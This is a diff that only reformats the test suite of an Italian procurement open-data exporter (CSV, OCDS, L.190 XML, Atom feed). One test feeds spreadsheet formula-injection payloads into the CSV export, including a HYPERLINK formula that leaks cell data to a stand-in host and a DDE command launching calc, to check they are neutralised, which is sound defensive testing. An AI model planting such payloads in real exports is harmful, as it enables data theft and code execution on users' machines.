@@ -35,13 +35,20 @@ def esiti(demo, fabbrica):
     d = datetime.date
     fatti = {
         "rti": fabbrica.pubblicato(
-            cig="G000000001", oggetto='Servizi cloud, "IaaS" e backup; lotto unico',
-            importo_aggiudicazione=Decimal("1234567.89"), importo_somme_liquidate=Decimal("1000.10"),
-            data_aggiudicazione=d(2024, 3, 1), data_inizio=d(2024, 4, 1), data_ultimazione=d(2026, 10, 2),
+            cig="G000000001",
+            oggetto='Servizi cloud, "IaaS" e backup; lotto unico',
+            importo_aggiudicazione=Decimal("1234567.89"),
+            importo_somme_liquidate=Decimal("1000.10"),
+            data_aggiudicazione=d(2024, 3, 1),
+            data_inizio=d(2024, 4, 1),
+            data_ultimazione=d(2026, 10, 2),
         ),
         "singolo": fabbrica.pubblicato(
-            cig="G000000002", contratto=demo.secondo, oggetto="Connettività\nsedi",
-            importo_aggiudicazione=Decimal("5000.00"), data_aggiudicazione=d(2024, 6, 1),
+            cig="G000000002",
+            contratto=demo.secondo,
+            oggetto="Connettività\nsedi",
+            importo_aggiudicazione=Decimal("5000.00"),
+            data_aggiudicazione=d(2024, 6, 1),
         ),
         "prato": fabbrica.pubblicato(cig="G000000003", ente=demo.prato, data_aggiudicazione=d(2024, 7, 1)),
         "ritirato": fabbrica.pubblicato(cig="G000000004", data_aggiudicazione=d(2024, 8, 1)),
@@ -55,6 +62,7 @@ def esiti(demo, fabbrica):
 
 
 # --- CSV -----------------------------------------------------------------------------------------
+
 
 def leggi_csv(testo):
     return list(csv.DictReader(io.StringIO(testo)))
@@ -83,8 +91,12 @@ def test_csv_round_trip(client, esiti):
         assert (riga["annullato"] == "true") == esito.annullato
         assert riga["url"] == f"http://testserver{URL}{esito.pk}/"
         assert json.loads(riga["partecipanti"]) == [
-            {"ragione_sociale": p.ragione_sociale, "codice_fiscale": p.codice_fiscale,
-             "identificativo_estero": p.identificativo_estero, "ruolo": p.ruolo}
+            {
+                "ragione_sociale": p.ragione_sociale,
+                "codice_fiscale": p.codice_fiscale,
+                "identificativo_estero": p.identificativo_estero,
+                "ruolo": p.ruolo,
+            }
             for p in esito.partecipanti.all()
         ]
     assert righe["G000000004"]["motivo_ritiro"] == "Errore materiale"
@@ -93,8 +105,14 @@ def test_csv_round_trip(client, esiti):
 
 @pytest.mark.parametrize(
     "ostile",
-    ['=HYPERLINK("http://evil.example/?x="&A1,"Clicca")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-     "\t=1+1", "\r=1+1"],
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
 )
 def test_csv_neutralizza_le_formule(client, demo, fabbrica, ostile):
     esito = fabbrica.pubblicato(cig="G000000077", oggetto=ostile, importo_aggiudicazione=Decimal("10.50"))
@@ -135,6 +153,7 @@ def test_gli_export_sono_in_streaming_a_blocchi(client, esiti, settings):
 
 # --- OCDS ----------------------------------------------------------------------------------------
 
+
 def validatore_ocds():
     pacchetto = json.loads((FIXTURES / "release-package-schema.json").read_text())
     rilascio = json.loads((FIXTURES / "release-schema.json").read_text())
@@ -165,7 +184,9 @@ def test_ocds_un_processo_per_ordinativo_collegato_all_accordo_quadro(client, es
     assert award["value"] == {"amount": 1234567.89, "currency": "EUR"}
     assert award["status"] == "active"
     assert [s["name"] for s in award["suppliers"]] == [
-        "Telecom Italia S.p.A.", "Cloud Toscana Servizi S.r.l.", "Dati e Reti Toscane S.r.l."
+        "Telecom Italia S.p.A.",
+        "Cloud Toscana Servizi S.r.l.",
+        "Dati e Reti Toscane S.r.l.",
     ]
     ruoli = {p["id"]: p["roles"] for p in r["parties"]}
     assert ruoli["IT-CF-05724831002"] == ["supplier", "tenderer"]
@@ -193,6 +214,7 @@ def test_ocds_vuoto_e_json_valido(client, esiti):
 
 # --- L.190 ---------------------------------------------------------------------------------------
 
+
 def schema_l190():
     return etree.XMLSchema(etree.parse(str(FIXTURES / "datasetAppaltiL190.xsd")))
 
@@ -219,7 +241,9 @@ def test_l190_valida_contro_l_xsd(client, esiti):
     assert rti.findtext("tempiCompletamento/dataUltimazione") == "2026-10-02"
     membri = rti.findall("aggiudicatari/aggiudicatarioRaggruppamento/membro")
     assert [(m.findtext("codiceFiscale"), m.findtext("ruolo")) for m in membri] == [
-        ("00488410010", "02-MANDATARIA"), ("05724831002", "01-MANDANTE"), ("01234567897", "01-MANDANTE")
+        ("00488410010", "02-MANDATARIA"),
+        ("05724831002", "01-MANDANTE"),
+        ("01234567897", "01-MANDANTE"),
     ]
     assert len(rti.findall("partecipanti/raggruppamento/membro")) == 3
     assert singolo.findtext("aggiudicatari/aggiudicatario/ragioneSociale") == "Connettività Toscana S.p.A."
@@ -237,6 +261,7 @@ def test_l190_ente_o_anno_inesistente_e_404(client, esiti, indirizzo):
 
 
 # --- feed and documentation ----------------------------------------------------------------------
+
 
 def test_il_feed_atom_si_legge(client, esiti):
     risposta = client.get(f"{URL}dati-aperti/feed/")
@@ -258,7 +283,12 @@ def test_pagina_dei_dati_aperti_documenta_formati_e_licenza(client, esiti):
     pagina = risposta.content.decode()
     assert "CC BY 4.0" in pagina and 'rel="license"' in pagina
     # The L.190 datasets of the most recent year, and links to the other years.
-    for indirizzo in ("dati-aperti/csv/", "dati-aperti/ocds/", "dati-aperti/feed/", "dati-aperti/l190/2025/01307110484/"):
+    for indirizzo in (
+        "dati-aperti/csv/",
+        "dati-aperti/ocds/",
+        "dati-aperti/feed/",
+        "dati-aperti/l190/2025/01307110484/",
+    ):
         assert f"{URL}{indirizzo}" in pagina, indirizzo
     assert "dati-aperti/l190/2024/" not in pagina and 'href="?anno=2024"' in pagina
     anno_2024 = client.get(f"{URL}dati-aperti/?anno=2024").content.decode()
@@ -289,8 +319,9 @@ def test_ocds_acquirente_anche_fornitore_una_sola_parte_con_tutti_i_ruoli(client
     from esiti.models import PartecipanteEsito
 
     esito = fabbrica.pubblicato(cig="G000000077")
-    PartecipanteEsito.objects.create(esito=esito, ragione_sociale="Comune di Firenze", codice_fiscale="01307110484",
-                                     ruolo="mandante", ordine=9)
+    PartecipanteEsito.objects.create(
+        esito=esito, ragione_sociale="Comune di Firenze", codice_fiscale="01307110484", ruolo="mandante", ordine=9
+    )
     pacchetto = json.loads(corpo(client.get(f"{URL}dati-aperti/ocds/")))
     rilasci = {r["ocid"]: r for r in pacchetto["releases"]}
     parti = rilasci["ocds-sctne1-G000000077"]["parties"]
@@ -299,5 +330,7 @@ def test_ocds_acquirente_anche_fornitore_una_sola_parte_con_tutti_i_ruoli(client
     assert ruoli["IT-CF-01307110484"] == ["buyer", "procuringEntity", "supplier", "tenderer"]
     assert "Comune di Firenze" in [s["name"] for s in rilasci["ocds-sctne1-G000000077"]["awards"][0]["suppliers"]]
     assert {p["id"]: p["roles"] for p in rilasci["ocds-sctne1-G000000001"]["parties"]}["IT-CF-01307110484"] == [
-        "buyer", "procuringEntity"]
+        "buyer",
+        "procuringEntity",
+    ]
     assert not list(validatore_ocds().iter_errors(pacchetto))  # still valid against the schema
